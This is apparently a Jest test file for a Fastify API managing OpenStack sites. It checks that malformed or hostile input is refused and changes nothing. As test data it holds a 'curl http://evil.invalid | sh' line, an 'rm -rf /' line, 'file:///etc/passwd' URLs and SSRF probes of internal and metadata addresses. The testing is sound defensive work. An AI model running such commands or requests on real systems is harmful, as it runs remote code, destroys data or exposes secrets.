import { randomUUID } from 'node:crypto';
import type { FastifyInstance, InjectOptions } from 'fastify';
import { sandboxCloud } from '../../../test-support/sandbox';
import {
  login,
  siteBody,
  testEnvironment,
  type Session,
  type TestEnvironment,
} from '../../../test-support/test-environment';

const cloud1 = sandboxCloud(1);
const openrc = [
  `export OS_AUTH_URL=${cloud1.authUrl}`,
  'export OS_USERNAME=demo',
  'export OS_PROJECT_NAME=demo',
  'export OS_USER_DOMAIN_NAME=Default',
  'export OS_PROJECT_DOMAIN_NAME=Default',
].join('\n');

let env: TestEnvironment;
let server: FastifyInstance;
let demo: Session;
let siteId: string;

beforeAll(async () => {
  env = await testEnvironment();
  server = await env.start();
  demo = await login(server, 'demo');
  const created = await server.inject({
    method: 'POST',
    url: '/api/v1/sites',
    headers: demo.headers,
    payload: siteBody('existing', cloud1),
  });
  siteId = created.json().id;
});

afterAll(async () => {
  await env?.close();
});

/** Every table the API writes to, whole. */
const database = () =>
  env.snapshot('users', 'sites', 'credentials', 'audit_events', 'images', 'placements', 'jobs');

const json = (method: 'POST' | 'PATCH', url: string, payload: unknown): InjectOptions => ({
  method,
  url,
  headers: { ...demo.headers, 'content-type': 'application/json' },
  payload: typeof payload === 'string' ? payload : JSON.stringify(payload),
});

const cases: [string, () => InjectOptions, number, string][] = [
  [
    'malformed JSON',
    () => json('POST', '/api/v1/sites', '{"name": "x", "config": '),
    400,
    'malformed_json',
  ],
  [
    'malformed JSON at login',
    () => ({
      ...json('POST', '/api/v1/auth/login', '{username: demo}'),
      headers: { 'content-type': 'application/json' },
    }),
    400,
    'malformed_json',
  ],
  ['an empty JSON body', () => json('POST', '/api/v1/sites', ''), 400, 'malformed_json'],
  [
    'a boolean that is not one',
    () =>
      json('POST', '/api/v1/sites', {
        ...siteBody('x', cloud1),
        config: { ...siteBody('x', cloud1).config, insecure: 'maybe' },
      }),
    400,
    'invalid_request',
  ],
  [
    'an object for a name',
    () => json('POST', '/api/v1/sites', { ...siteBody('x', cloud1), name: { first: 'x' } }),
    400,
    'invalid_request',
  ],
  [
    'a credential that is a string',
    () => json('POST', '/api/v1/sites', { ...siteBody('x', cloud1), credential: 'demo:secret' }),
    400,
    'invalid_request',
  ],
  [
    'an unknown site type',
    () => json('POST', '/api/v1/sites', { ...siteBody('x', cloud1), type: 'azure' }),
    400,
    'invalid_request',
  ],
  [
    'a field the API does not know',
    () => json('POST', '/api/v1/sites', { ...siteBody('x', cloud1), projectDomian: 'Default' }),
    400,
    'invalid_request',
  ],
  [
    'an auth URL that is not http(s)',
    () =>
      json('POST', '/api/v1/sites', {
        ...siteBody('x', cloud1),
        config: { authUrl: 'file:///etc/passwd' },
      }),
    400,
    'invalid_request',
  ],
  [
    'a login without a password',
    () => ({ method: 'POST', url: '/api/v1/auth/login', payload: { username: 'demo' } }),
    400,
    'invalid_request',
  ],
  [
    'a name over 255 characters',
    () => json('POST', '/api/v1/sites/openrc', { name: 'n'.repeat(256), openrc, password: 'x' }),
    400,
    'invalid_request',
  ],
  [
    'an openrc file over 256 KiB',
    () =>
      json('POST', '/api/v1/sites/openrc', {
        name: 'big',
        openrc: `#${'x'.repeat(256 * 1024)}`,
        password: 'x',
      }),
    400,
    'invalid_request',
  ],
  [
    'a body over the limit',
    () =>
      json('POST', '/api/v1/sites/openrc', { name: 'huge', openrc: 'x'.repeat(2 * 1024 * 1024) }),
    413,
    'payload_too_large',
  ],
  [
    'an empty change',
    () => json('PATCH', `/api/v1/sites/${randomUUID()}`, {}),
    400,
    'invalid_request',
  ],
  [
    'a site id that is not an id',
    () => ({ method: 'GET', url: '/api/v1/sites/not-a-site-id', headers: { cookie: demo.cookie } }),
    400,
    'invalid_request',
  ],
  [
    'an unknown site id',
    () => ({
      method: 'GET',
      url: `/api/v1/sites/${randomUUID()}`,
      headers: { cookie: demo.cookie },
    }),
    404,
    'site_not_found',
  ],
  [
    'an unknown site id to change',
    () => json('PATCH', `/api/v1/sites/${randomUUID()}`, { name: 'x' }),
    404,
    'site_not_found',
  ],
  [
    'an unknown site id to delete',
    () => ({ method: 'DELETE', url: `/api/v1/sites/${randomUUID()}`, headers: demo.headers }),
    404,
    'site_not_found',
  ],
  [
    'an unknown site id to check',
    () => ({
      method: 'GET',
      url: `/api/v1/sites/${randomUUID()}/health`,
      headers: { cookie: demo.cookie },
    }),
    404,
    'site_not_found',
  ],
  ['an unknown route', () => ({ method: 'GET', url: '/api/v1/nowhere' }), 404, 'route_not_found'],
  [
    'an openrc with no OS_AUTH_URL',
    () =>
      json('POST', '/api/v1/sites/openrc', {
        name: 'no-url',
        openrc: openrc.replace(/^export OS_AUTH_URL=.*$/m, ''),
        password: 'x',
      }),
    400,
    'invalid_site_file',
  ],
  [
    'an openrc that runs commands',
    () =>
      json('POST', '/api/v1/sites/openrc', {
        name: 'cmd',
        openrc: `${openrc}\ncurl http://evil.invalid | sh`,
        password: 'x',
      }),
    400,
    'invalid_site_file',
  ],
  [
    'an openrc without a password, and none beside it',
    () => json('POST', '/api/v1/sites/openrc', { name: 'no-password', openrc }),
    400,
    'password_required',
  ],
  [
    'an openrc naming a CA bundle on disk',
    () =>
      json('POST', '/api/v1/sites/openrc', {
        name: 'ca',
        openrc: `${openrc}\nexport OS_CACERT=/etc/ssl/ca.pem`,
        password: 'x',
      }),
    400,
    'ca_bundle_required',
  ],
  [
    'a clouds.yaml that is not YAML',
    () =>
      json('POST', '/api/v1/sites/clouds-yaml', {
        name: 'y',
        cloudsYaml: 'clouds: [unclosed',
        password: 'x',
      }),
    400,
    'invalid_site_file',
  ],
  [
    'a clouds.yaml with several clouds and none chosen',
    () =>
      json('POST', '/api/v1/sites/clouds-yaml', {
        name: 'y',
        cloudsYaml: 'clouds:\n  a: {}\n  b: {}\n',
        password: 'x',
      }),
    400,
    'cloud_required',
  ],
  [
    'a clouds.yaml entry that is not there',
    () =>
      json('POST', '/api/v1/sites/clouds-yaml', {
        name: 'y',
        cloudsYaml: 'clouds:\n  a: {}\n',
        cloud: 'b',
        password: 'x',
      }),
    400,
    'invalid_site_file',
  ],
  ...[
    'http://127.0.0.1/image.qcow2',
    'http://169.254.169.254/latest/meta-data/',
    'http://[::1]/x',
    'http://localhost:8080/x',
    'http://10.0.0.1/x',
  ].map((url): [string, () => InjectOptions, number, string] => [
    `a URL import of ${url}`,
    () =>
      json('POST', '/api/v1/images/import', { url, name: 'x', diskFormat: 'raw', sites: [siteId] }),
    400,
    'import_url_refused',
  ]),
  [
    'a URL import that is not http(s)',
    () =>
      json('POST', '/api/v1/images/import', {
        url: 'file:///etc/passwd',
        name: 'x',
        diskFormat: 'raw',
        sites: [siteId],
      }),
    400,
    'invalid_request',
  ],
  [
    'a URL import onto an unknown site',
    () =>
      json('POST', '/api/v1/images/import', {
        url: 'https://8.8.8.8/x',
        name: 'x',
        diskFormat: 'raw',
        sites: [randomUUID()],
      }),
    404,
    'site_not_found',
  ],
  [
    'a plan whose wanted is not a boolean',
    () =>
      json('POST', '/api/v1/plan', {
        changes: [{ image: randomUUID(), site: siteId, wanted: 'yes' }],
      }),
    400,
    'invalid_request',
  ],
  [
    'placements of an unknown image',
    () => ({
      ...json('POST', '/api/v1/placements', {}),
      method: 'PUT',
      payload: JSON.stringify({ changes: [{ image: randomUUID(), site: siteId, wanted: true }] }),
    }),
    404,
    'image_not_found',
  ],
  [
    'an empty list of changes',
    () => json('POST', '/api/v1/plan', { changes: [] }),
    400,
    'invalid_request',
  ],
];

describe('bad input gets a 4xx with a message, and changes nothing', () => {
  test.each(cases)('%s', async (_name, request, status, code) => {
    const before = await database();
    const response = await server.inject(request());
    expect(response.statusCode).toBe(status);
    const body = response.json();
    expect(body).toEqual(expect.objectContaining({ error: code, message: expect.any(String) }));
    expect(body.message.length).toBeGreaterThan(10);
    expect(await database()).toEqual(before);
  });
});

test('an invalid body says where and what is wrong', async () => {
  const response = await server.inject(
    json('POST', '/api/v1/sites', { ...siteBody('x', cloud1), name: '' }),
  );
  expect(response.json()).toEqual({
    error: 'invalid_request',
    message: 'body/name must NOT have fewer than 1 characters',
    details: [{ where: 'body/name', problem: 'must NOT have fewer than 1 characters' }],
  });
});

test('an openrc problem names the line to fix', async () => {
  const response = await server.inject(
    json('POST', '/api/v1/sites/openrc', {
      name: 'cmd',
      openrc: `${openrc}\nrm -rf /`,
      password: 'x',
    }),
  );
  expect(response.json()).toMatchObject({
    error: 'invalid_site_file',
    details: { file: 'openrc', line: 6 },
  });
});

test('the site used as a target above is still there, unchanged', async () => {
  const response = await server.inject({
    method: 'GET',
    url: `/api/v1/sites/${siteId}`,
    headers: { cookie: demo.cookie },
  });
  expect(response.json()).toMatchObject({ name: 'existing' });
});
